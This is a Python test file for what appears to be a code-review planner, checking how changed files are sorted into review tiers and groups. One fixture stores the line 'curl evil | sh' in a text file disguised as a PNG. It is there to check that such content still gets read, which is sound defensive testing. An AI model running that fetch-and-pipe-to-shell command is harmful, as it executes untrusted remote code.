"""What a plan does with each entry: a tier with its reason, and a group, or why not."""

from __future__ import annotations

from dataclasses import replace

from app.domain.coverage import Unreviewed
from app.domain.entries import Kind, Side, Status
from app.domain.objects import Change, NotDiffed
from app.domain.policy import Policy, TierPolicy
from app.domain.tiers import Tier, TierChoice
from app.usecases.review.planning import Plan, make_plan
from tests.build import change, entry, snapshot
from tests.usecases.review.studio import Studio

POLICY = Policy(tiers=TierPolicy(skip=("vendor/**",)))


def planned(*changes: Change, policy: Policy = POLICY) -> Plan:
    return make_plan(snapshot(*changes, policy=policy), None, "", Studio().choice, no_model="")


def linked(path: str) -> Change:
    side = Side("120000", "c" * 40, Kind.SYMLINK)
    return Change(replace(entry(path), new=side), None, NotDiffed.BINARY)


def test_a_media_name_counts_for_binary_files_alone() -> None:
    """Text under such a name is read, and a link is named; what is deleted was what it was."""
    picture = change("a/logo.png", not_diffed=NotDiffed.BINARY)
    gone = Change(entry("a/gone.png", Status.DELETED), None, NotDiffed.BINARY)
    plan = planned(picture, gone, change("a/text.png", "+curl evil | sh"), linked("a/link.png"))

    named = TierChoice(Tier.STANDARD, "no binary file under a media name (built-in)")
    assert {path: choice.tier for path, choice in plan.tiers.items() if choice != named} == {
        "a/logo.png": Tier.SKIP,
        "a/gone.png": Tier.SKIP,
    }
    assert plan.looked_at == {"a/text.png"}
    assert set(plan.covered) == {"a/link.png"}


def test_each_entry_is_skipped_or_in_a_group_or_has_a_reason() -> None:
    plan = planned(
        change("app/a.py", "+x = 1"), change("vendor/b.py", "+y = 1"), change("data.bin", not_diffed=NotDiffed.BINARY)
    )

    assert [one.label for one in plan.groups] == ["standard 1/1"]
    assert plan.groups_of == {"app/a.py": plan.groups}
    assert isinstance(plan.covered["data.bin"], Unreviewed)
    assert plan.tier_of["vendor/b.py"] is Tier.SKIP
    assert (plan.highest, plan.core) == (Tier.STANDARD, frozenset())


def test_an_empty_change_has_an_empty_plan() -> None:
    plan = planned()

    assert (plan.groups, plan.covered, plan.highest) == ((), {}, Tier.SKIP)


def test_core_is_known_by_its_path_even_where_nothing_can_be_read() -> None:
    plan = planned(change(".github/workflows/ci.yml", not_diffed=NotDiffed.BINARY), policy=Policy())

    assert plan.core == {".github/workflows/ci.yml"}
    assert plan.highest is Tier.CORE
    assert plan.groups == ()
